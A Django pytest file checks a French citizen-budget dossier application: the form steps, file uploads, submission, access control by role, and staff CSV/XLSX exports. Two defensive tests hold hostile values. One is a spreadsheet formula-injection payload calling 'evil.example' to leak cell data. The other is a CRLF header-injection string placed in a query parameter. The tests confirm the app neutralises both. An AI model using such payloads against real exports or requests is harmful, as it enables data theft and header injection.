"""The dossier pages: the holder's steps and submission, files, confidentiality, staff list."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import time_machine
from bs4 import BeautifulSoup
from django.core import mail
from django.test import Client

from budgetcitoyen.dossiers import services
from budgetcitoyen.dossiers.models import Dossier
from budgetcitoyen.testing.a11y import assert_accessible
from budgetcitoyen.testing.cast import make_persona
from budgetcitoyen.testing.factories import (
    PDF_MINIMAL,
    PNG_IMAGE,
    attendee,
    complete_dossier,
    paris,
    upload,
    verified_person,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("during_deposit")]


def weasyprint_available() -> bool:
    try:
        import weasyprint  # noqa: F401
    except OSError:
        return False
    return True


@pytest.fixture
def holder_client(registration):
    client = Client()
    client.force_login(registration.person)
    return client


@pytest.fixture
def draft(registration):
    return services.dossier_start(registration=registration, by=registration.person)


class TestStart:
    def test_someone_who_did_not_attend_sees_why_and_the_agenda(self, edition):
        client = Client()
        client.force_login(verified_person())
        page = client.get("/mes-dossiers/")
        assert "participé à un comptoir" in page.content.decode()
        assert 'href="/comptoirs/"' in page.content.decode()
        assert_accessible(page.content)
        response = client.get("/mes-dossiers/nouveau/")
        assert response.status_code == 403
        assert 'href="/comptoirs/"' in response.content.decode()
        assert_accessible(response.content)
        assert client.post("/mes-dossiers/nouveau/", {}).status_code == 403
        assert not Dossier.objects.exists()

    def test_an_attendee_creates_a_draft_from_an_idea(self, holder_client, registration):
        page = holder_client.get("/mes-dossiers/nouveau/")
        assert registration.idea_title in page.content.decode()
        assert_accessible(page.content)
        # The only idea is already chosen: "Créer le brouillon" works straight away.
        checked = BeautifulSoup(page.content, "html.parser").select("input[name=registration]")
        assert [i.has_attr("checked") for i in checked] == [True]
        response = holder_client.post("/mes-dossiers/nouveau/", {"registration": registration.pk})
        dossier = Dossier.objects.get()
        assert response["Location"] == f"/mes-dossiers/{dossier.pk}/presentation/"

    def test_anonymous_visitors_are_asked_to_sign_in(self, client):
        response = client.get("/mes-dossiers/")
        assert response.status_code == 302 and "/compte/login/" in response["Location"]


class TestSteps:
    def test_every_step_renders_accessibly(self, holder_client, draft):
        for step in ("presentation", "projet", "porteur", "budget", "categorie", "pieces"):
            page = holder_client.get(f"/mes-dossiers/{draft.pk}/{step}/")
            assert page.status_code == 200, step
            assert 'aria-current="step"' in page.content.decode()
            assert_accessible(page.content)
        for url in (
            f"/mes-dossiers/{draft.pk}/",
            f"/mes-dossiers/{draft.pk}/recapitulatif/",
            "/mes-dossiers/",
        ):
            page = holder_client.get(url)
            assert page.status_code == 200
            assert_accessible(page.content)

    def test_a_step_with_errors_keeps_everything_typed(self, holder_client, draft):
        data = {
            "structure_kind": "cooperative",
            "structure_name": "Scop du Littoral",
            "siret": "123 456 789 00012",
            "rna": "",
            "structure_address": "1 quai, Boulogne",
            "contact_name": "Inès",
            "contact_email": "pas-un-courriel",
            "action": "next",
        }
        response = holder_client.post(f"/mes-dossiers/{draft.pk}/porteur/", data)
        assert response.status_code == 400
        body = response.content.decode()
        assert "clé de contrôle" in body
        assert "123 456 789 00012" in body
        draft.refresh_from_db()
        assert draft.structure_name == "Scop du Littoral"  # the valid fields are saved
        assert draft.siret == ""
        # Coming back later: what was typed is still there, with its errors.
        again = holder_client.get(f"/mes-dossiers/{draft.pk}/porteur/").content.decode()
        assert "123 456 789 00012" in again and "pas-un-courriel" in again
        assert "clé de contrôle" in again
        summary = holder_client.get(f"/mes-dossiers/{draft.pk}/recapitulatif/").content.decode()
        assert "contient des erreurs à corriger" in summary

    def test_the_contact_phone_is_checked_stored_in_one_form_and_shown_the_french_way(
        self, holder_client, draft
    ):
        data = {
            "structure_kind": "collective",
            "structure_name": "Collectif du Littoral",
            "contact_name": "Inès",
            "contact_phone": "12 34",
            "action": "save",
        }
        response = holder_client.post(f"/mes-dossiers/{draft.pk}/porteur/", data)
        assert response.status_code == 400
        assert "Saisissez un numéro à 10 chiffres" in response.content.decode()
        draft.refresh_from_db()
        assert draft.contact_phone == "" and draft.structure_name == "Collectif du Littoral"
        holder_client.post(
            f"/mes-dossiers/{draft.pk}/porteur/", {**data, "contact_phone": "+33 6.12.34.56.78"}
        )
        draft.refresh_from_db()
        assert draft.contact_phone == "+33612345678"
        page = holder_client.get(f"/mes-dossiers/{draft.pk}/porteur/").content.decode()
        assert 'value="06 12 34 56 78"' in page
        summary = holder_client.get(f"/mes-dossiers/{draft.pk}/recapitulatif/").content.decode()
        assert "06 12 34 56 78" in summary

    def test_amounts_are_read_the_french_way_and_the_plan_is_checked(self, holder_client, draft):
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/budget/",
            {
                "total_cost": "20 000,50",
                "amount_requested": "12 000",
                "lines-TOTAL_FORMS": "3",
                "lines-INITIAL_FORMS": "0",
                "lines-0-source": "Fonds propres",
                "lines-0-amount": "8 000,5",
                "lines-0-is_secured": "on",
                "lines-1-source": "",
                "lines-1-amount": "",
                "lines-2-source": "",
                "lines-2-amount": "",
                "action": "save",
            },
        )
        assert response.status_code == 302
        draft.refresh_from_db()
        assert draft.total_cost == Decimal("20000.50")
        assert draft.financing_lines.get().amount == Decimal("8000.50")
        page = holder_client.get(f"/mes-dossiers/{draft.pk}/budget/").content.decode()
        assert "équilibré" in page

    def test_a_line_without_source_is_an_error_and_the_plan_is_kept(self, holder_client, draft):
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/budget/",
            {
                "total_cost": "100",
                "amount_requested": "200000",
                "lines-TOTAL_FORMS": "1",
                "lines-INITIAL_FORMS": "0",
                "lines-0-source": "",
                "lines-0-amount": "50",
                "action": "save",
            },
        )
        assert response.status_code == 400
        body = response.content.decode()
        assert (
            "Indiquez d&#x27;où vient ce montant" in body
            or "Indiquez d'où vient ce montant" in body
        )
        assert "plafond" in body
        draft.refresh_from_db()
        assert draft.total_cost == Decimal("100")
        assert draft.amount_requested is None

    def test_photo_and_attachments_upload_and_disguised_files_are_refused(
        self, holder_client, draft
    ):
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/presentation/",
            {
                "title": "Titre",
                "summary": "",
                "description": "",
                "photo": upload("vue.png", PNG_IMAGE),
                "action": "save",
            },
        )
        assert response.status_code == 302
        draft.refresh_from_db()
        assert draft.photo_content_type == "image/png"
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/pieces/",
            {
                "attachments": [upload("statuts.pdf"), upload("devis.pdf", b"not a pdf at all")],
                "action": "save",
            },
        )
        assert response.status_code == 400
        assert "devis.pdf" in response.content.decode()
        assert [a.original_name for a in draft.attachments.all()] == ["statuts.pdf"]
        item = draft.attachments.get()
        download = holder_client.get(f"/dossiers/{draft.pk}/pieces/{item.pk}/")
        assert download.status_code == 200
        assert download["Content-Type"] == "application/pdf"
        assert b"".join(download.streaming_content) == PDF_MINIMAL
        assert download["X-Content-Type-Options"] == "nosniff"
        holder_client.post(f"/mes-dossiers/{draft.pk}/pieces/{item.pk}/retirer/")
        assert not draft.attachments.exists()

    def test_the_photo_can_be_removed(self, holder_client, draft):
        services.photo_set(dossier=draft, by=draft.holder, upload=upload("p.png", PNG_IMAGE))
        holder_client.post(f"/mes-dossiers/{draft.pk}/photo/retirer/")
        draft.refresh_from_db()
        assert not draft.photo

    def test_communes_are_resolved_by_name_and_postal_code(self, holder_client, draft):
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/projet/",
            {"communes": "arras\nSaint-Omer (62500)\nNulle-Part-Sur-Mer", "action": "save"},
        )
        assert response.status_code == 400
        assert "Nulle-Part-Sur-Mer" in response.content.decode()
        response = holder_client.post(
            f"/mes-dossiers/{draft.pk}/projet/",
            {"communes": "arras\nSaint-Omer (62500)", "territory": "", "action": "save"},
        )
        assert response.status_code == 302
        assert sorted(c.insee_code for c in draft.communes.all()) == ["62041", "62765"]


class TestSubmission:
    def test_the_summary_lists_what_is_missing_and_refuses(self, holder_client, draft):
        page = holder_client.get(f"/mes-dossiers/{draft.pk}/recapitulatif/").content.decode()
        assert "La date de démarrage." in page
        response = holder_client.post(f"/mes-dossiers/{draft.pk}/recapitulatif/", {"sworn": "on"})
        assert response.status_code == 400
        draft.refresh_from_db()
        assert draft.is_draft

    def test_submitting_leads_to_the_receipt(
        self, holder_client, registration, django_capture_on_commit_callbacks
    ):
        dossier = complete_dossier(registration)
        without_oath = holder_client.post(f"/mes-dossiers/{dossier.pk}/recapitulatif/", {})
        assert without_oath.status_code == 400
        assert (
            "attestation sur l&#x27;honneur" in without_oath.content.decode()
            or "attestation sur l'honneur" in without_oath.content.decode()
        )
        with django_capture_on_commit_callbacks(execute=True):
            response = holder_client.post(
                f"/mes-dossiers/{dossier.pk}/recapitulatif/", {"sworn": "on"}
            )
        assert response["Location"] == f"/mes-dossiers/{dossier.pk}/recepisse/"
        dossier.refresh_from_db()
        receipt = holder_client.get(response["Location"])
        body = receipt.content.decode()
        assert "BC-2025-0001" in body and dossier.snapshot_sha256 in body
        assert_accessible(receipt.content)
        assert len(mail.outbox) == 1
        overview = holder_client.get(f"/mes-dossiers/{dossier.pk}/")
        assert "ne peut plus être modifié" in overview.content.decode()
        assert_accessible(overview.content)

    def test_outside_the_window_the_summary_says_so(self, holder_client, registration):
        dossier = complete_dossier(registration)
        with time_machine.travel(paris(2025, 1, 20), tick=False):
            page = holder_client.get(f"/mes-dossiers/{dossier.pk}/recapitulatif/").content.decode()
            assert "pas encore ouvert" in page
            response = holder_client.post(
                f"/mes-dossiers/{dossier.pk}/recapitulatif/", {"sworn": "on"}
            )
            assert response.status_code == 409
        with time_machine.travel(paris(2025, 3, 6), tick=False):
            holder_client.force_login(registration.person)
            mine = holder_client.get("/mes-dossiers/").content.decode()
            assert "Brouillon non déposé" in mine

    def test_printable_and_pdf(self, holder_client, registration):
        dossier = services.dossier_submit(
            dossier=complete_dossier(registration), by=registration.person, sworn=True
        )
        services_photo = holder_client.get(f"/dossiers/{dossier.pk}/imprimer/")
        assert services_photo.status_code == 200
        assert dossier.snapshot_sha256 in services_photo.content.decode()
        assert_accessible(services_photo.content)
        if not weasyprint_available():
            pytest.skip("Pango is not installed")
        pdf = holder_client.get(f"/dossiers/{dossier.pk}/dossier.pdf")
        assert pdf.status_code == 200
        assert pdf["Content-Type"] == "application/pdf"
        assert pdf.content.startswith(b"%PDF-")

    def test_withdrawing(self, holder_client, registration):
        dossier = services.dossier_submit(
            dossier=complete_dossier(registration), by=registration.person, sworn=True
        )
        page = holder_client.get(f"/mes-dossiers/{dossier.pk}/retirer/")
        assert_accessible(page.content)
        response = holder_client.post(f"/mes-dossiers/{dossier.pk}/retirer/", {"reason": "Reporté"})
        assert response.status_code == 302
        dossier.refresh_from_db()
        assert dossier.status == "withdrawn"
        again = holder_client.post(f"/mes-dossiers/{dossier.pk}/retirer/", {"reason": ""})
        assert again.status_code == 409
        assert "Retiré" in holder_client.get("/mes-dossiers/").content.decode()

    def test_deleting_a_draft(self, holder_client, draft):
        page = holder_client.get(f"/mes-dossiers/{draft.pk}/supprimer/")
        assert_accessible(page.content)
        holder_client.post(f"/mes-dossiers/{draft.pk}/supprimer/")
        assert not Dossier.objects.filter(pk=draft.pk).exists()


def dossier_urls(dossier: Dossier) -> list[str]:
    urls = [
        f"/mes-dossiers/{dossier.pk}/",
        f"/mes-dossiers/{dossier.pk}/presentation/",
        f"/mes-dossiers/{dossier.pk}/recapitulatif/",
        f"/mes-dossiers/{dossier.pk}/recepisse/",
        f"/mes-dossiers/{dossier.pk}/retirer/",
        f"/mes-dossiers/{dossier.pk}/supprimer/",
        f"/dossiers/{dossier.pk}/photo/",
        f"/dossiers/{dossier.pk}/imprimer/",
        f"/dossiers/{dossier.pk}/dossier.pdf",
        f"/gestion/dossiers/{dossier.pk}/",
    ]
    urls += [f"/dossiers/{dossier.pk}/pieces/{a.pk}/" for a in dossier.attachments.all()]
    if dossier.reference:
        urls.append(f"/dossiers/{dossier.reference}/")
    return urls


class TestConfidentiality:
    @pytest.fixture
    def dossiers(self, registration):
        draft = complete_dossier(attendee(registration.edition))
        submitted = complete_dossier(registration)
        services.photo_set(
            dossier=submitted, by=submitted.holder, upload=upload("p.png", PNG_IMAGE)
        )
        services.attachment_add(dossier=submitted, by=submitted.holder, upload=upload())
        submitted = services.dossier_submit(dossier=submitted, by=submitted.holder, sworn=True)
        return draft, submitted

    @pytest.mark.parametrize("persona", ["anonymous", "resident", "porteur", "organiser", "agent"])
    def test_everyone_else_gets_404_on_every_dossier_url(self, dossiers, persona):
        client = Client()
        user = make_persona(persona)
        if user is not None:
            client.force_login(user)
        for dossier in dossiers:
            for url in dossier_urls(dossier):
                for method in (client.get, client.post):
                    assert method(url).status_code == 404, (persona, method.__name__, url)

    def test_guessed_ids_and_references_are_404_for_everyone(self, dossiers, registration):
        client = Client()
        client.force_login(make_persona("staff"))
        for url in (
            "/dossiers/99999/imprimer/",
            "/gestion/dossiers/99999/",
            "/dossiers/BC-2025-0999/",
            "/dossiers/99999/pieces/1/",
        ):
            assert client.get(url).status_code == 404, url
        holder = Client()
        holder.force_login(registration.person)
        draft, submitted = dossiers
        attachment = submitted.attachments.get()
        assert holder.get(f"/dossiers/{draft.pk}/pieces/{attachment.pk}/").status_code == 404
        assert holder.get(f"/mes-dossiers/{draft.pk}/").status_code == 404

    def test_committee_sees_the_submitted_dossiers_assigned_to_them_never_a_draft(self, dossiers):
        from budgetcitoyen.labelling.models import Assignment

        draft, submitted = dossiers
        member = make_persona("committee")
        client = Client()
        client.force_login(member)
        assert client.get(f"/gestion/dossiers/{submitted.pk}/").status_code == 404  # not assigned
        Assignment.objects.create(dossier=submitted, member=member)
        for url in (
            f"/gestion/dossiers/{submitted.pk}/",
            f"/dossiers/{submitted.pk}/imprimer/",
            f"/dossiers/{submitted.pk}/photo/",
        ):
            assert client.get(url).status_code == 200, url
        assert (
            client.get(f"/dossiers/{submitted.reference}/")["Location"]
            == f"/gestion/dossiers/{submitted.pk}/"
        )
        assert client.get(f"/gestion/dossiers/{draft.pk}/").status_code == 404
        assert client.get("/gestion/dossiers/").status_code == 404  # the list is staff's
        page = client.get(f"/gestion/dossiers/{submitted.pk}/").content.decode()
        assert "Historique" not in page

    def test_staff_see_everything_with_the_history(self, dossiers):
        draft, submitted = dossiers
        client = Client()
        client.force_login(make_persona("staff"))
        page = client.get(f"/gestion/dossiers/{submitted.pk}/")
        body = page.content.decode()
        assert "Historique" in body and "dossiers.submitted" in body and "conforme" in body
        assert_accessible(page.content)
        assert client.get(f"/gestion/dossiers/{draft.pk}/").status_code == 200
        # The history names who acted, as the holder's line does (with the email to write).
        holder = submitted.holder
        assert f"<td>{holder.display_name}</td>" in body and f"<td>{holder.email}</td>" not in body
        assert f"<dd>{holder.display_name} — {holder.email}</dd>" in body
        holder.first_name = holder.last_name = ""
        holder.save()
        body = client.get(f"/gestion/dossiers/{submitted.pk}/").content.decode()
        assert f"<dt>Porteur</dt><dd>{holder.email}</dd>" in body

    def test_the_receipt_names_the_holder(self, dossiers):
        _draft, submitted = dossiers
        holder = submitted.holder
        client = Client()
        client.force_login(holder)
        body = client.get(f"/mes-dossiers/{submitted.pk}/recepisse/").content.decode()
        assert f"<dd>{holder.display_name} — " in body and holder.email not in body


class TestStaffList:
    @pytest.fixture
    def staff(self):
        client = Client()
        client.force_login(make_persona("staff"))
        return client

    def test_list_filters_and_counts(self, staff, edition):
        first = attendee(edition)
        one = services.dossier_submit(dossier=complete_dossier(first), by=first.person, sworn=True)
        complete_dossier(
            attendee(edition), title="Jardin partagé", structure_kind="collective", rna=""
        )
        page = staff.get("/gestion/dossiers/?edition=2025")
        body = page.content.decode()
        assert "2 dossiers" in body and one.reference in body and "Jardin partagé" in body
        assert_accessible(page.content)
        filtered = staff.get("/gestion/dossiers/?edition=2025&statut=submitted").content.decode()
        assert "1 dossier" in filtered and "Jardin partagé" not in filtered
        by_kind = staff.get("/gestion/dossiers/?edition=2025&structure=collective").content.decode()
        assert "Jardin partagé" in by_kind and one.reference not in by_kind

    def test_counts_are_of_dossiers_not_of_their_attachments(self, staff, edition):
        draft = complete_dossier(attendee(edition))
        for n in range(3):
            services.attachment_add(dossier=draft, by=draft.holder, upload=upload(f"p{n}.pdf"))
        body = staff.get("/gestion/dossiers/?edition=2025").content.decode()
        assert "Brouillon : <strong>1</strong>" in body

    def test_csv_and_xlsx_exports(self, staff, edition):
        first = attendee(edition)
        one = services.dossier_submit(dossier=complete_dossier(first), by=first.person, sworn=True)
        response = staff.get("/gestion/dossiers/export.csv?edition=2025")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        assert rows[0][0] == "Référence"
        assert rows[1][0] == one.reference and "12000,00" in rows[1]
        response = staff.get("/gestion/dossiers/export.xlsx?edition=2025")
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet["A2"].value == one.reference
        assert sheet["N2"].value == 12000

    def test_a_formula_in_a_title_is_exported_as_text(self, staff, edition):
        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'
        complete_dossier(attendee(edition), title=hostile)
        rows = list(
            csv.reader(
                io.StringIO(
                    staff.get("/gestion/dossiers/export.csv?edition=2025").content.decode(
                        "utf-8-sig"
                    )
                ),
                delimiter=";",
            )
        )
        assert rows[1][rows[0].index("Titre")] == "'" + hostile
        from openpyxl import load_workbook

        sheet = load_workbook(
            io.BytesIO(staff.get("/gestion/dossiers/export.xlsx?edition=2025").content)
        ).active
        title = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("Titre") + 1)
        assert title.data_type == "s" and title.value == "'" + hostile

    @pytest.mark.parametrize("asked", ["2025\r\nSet-Cookie: a=b", 'x"y', "2099"])
    def test_the_file_name_is_the_edition_exported_never_the_query(self, staff, edition, asked):
        for ext in ("csv", "xlsx"):
            response = staff.get(f"/gestion/dossiers/export.{ext}", {"edition": asked})
            assert response.status_code in (200, 400)
            if response.status_code == 200:
                assert response["Content-Disposition"] == (
                    f'attachment; filename="dossiers-toutes-editions.{ext}"'
                )
        response = staff.get("/gestion/dossiers/export.csv", {"edition": "2025"})
        assert response["Content-Disposition"] == 'attachment; filename="dossiers-2025.csv"'

    @pytest.mark.parametrize(
        "persona", ["anonymous", "resident", "organiser", "committee", "agent"]
    )
    def test_only_staff(self, persona):
        client = Client()
        user = make_persona(persona)
        if user is not None:
            client.force_login(user)
        for url in (
            "/gestion/dossiers/",
            "/gestion/dossiers/export.csv",
            "/gestion/dossiers/export.xlsx",
        ):
            assert client.get(url).status_code == 404


class TestAfterTheDeposit:
    def test_a_draft_cannot_be_edited_once_the_deposit_is_closed(self, registration, draft):
        client = Client()
        with time_machine.travel(paris(2025, 3, 5, 8), tick=False):
            client.force_login(registration.person)
            assert (
                client.get(f"/mes-dossiers/{draft.pk}/projet/")["Location"]
                == f"/mes-dossiers/{draft.pk}/"
            )
            response = client.post(f"/mes-dossiers/{draft.pk}/projet/", {"objectives": "Trop tard"})
            assert response.status_code == 409
            assert "ne peut plus être modifié ni déposé" in response.content.decode()
            page = client.get(f"/mes-dossiers/{draft.pk}/")
            assert "Brouillon non déposé" in page.content.decode()
            assert_accessible(page.content)
        draft.refresh_from_db()
        assert draft.objectives == ""


class TestTheWishedCategorysCap:
    """12 000 € requested in a category capped at 10 000 €: warned at the steps, refused."""

    CAP = "dépasse le plafond de la catégorie « Innovation sociale » : 10 000 € par projet"

    def test_warned_at_the_steps_and_refused_at_submission(self, holder_client, registration):
        from html import unescape

        dossier = complete_dossier(registration)  # 12 000 € asked, Innovation sociale wished
        category = dossier.wished_category
        category.max_amount_per_project = Decimal("10000")
        category.save()
        for step in ("budget", "categorie"):
            page = holder_client.get(f"/mes-dossiers/{dossier.pk}/{step}/")
            html = unescape(page.content.decode()).replace("\u202f", " ").replace("\xa0", " ")
            shown = 'message-warning">Le montant demandé (12 000 €) ' + self.CAP
            assert html.count(shown) == 1, step
            assert_accessible(page.content)
        html = unescape(
            holder_client.get(f"/mes-dossiers/{dossier.pk}/categorie/").content.decode()
        )
        assert "jusqu'à 10\u202f000 € par projet" in html.replace("\xa0", "\u202f")
        # The live check's data, for dossier.js: the saved amount and each category's cap.
        assert '"amount": "12000.00"' in html and '"cap": "10000.00"' in html
        response = holder_client.post(f"/mes-dossiers/{dossier.pk}/recapitulatif/", {"sworn": "on"})
        assert response.status_code == 400
        html = unescape(response.content.decode()).replace("\u202f", " ").replace("\xa0", " ")
        assert self.CAP in html
        dossier.refresh_from_db()
        assert dossier.is_draft

    def test_within_the_cap_no_warning(self, holder_client, registration):
        dossier = complete_dossier(registration)
        page = holder_client.get(f"/mes-dossiers/{dossier.pk}/budget/").content.decode()
        assert "message-warning" not in page
        assert 'data-cap="15000.00"' in page  # the live check's cap, for dossier.js
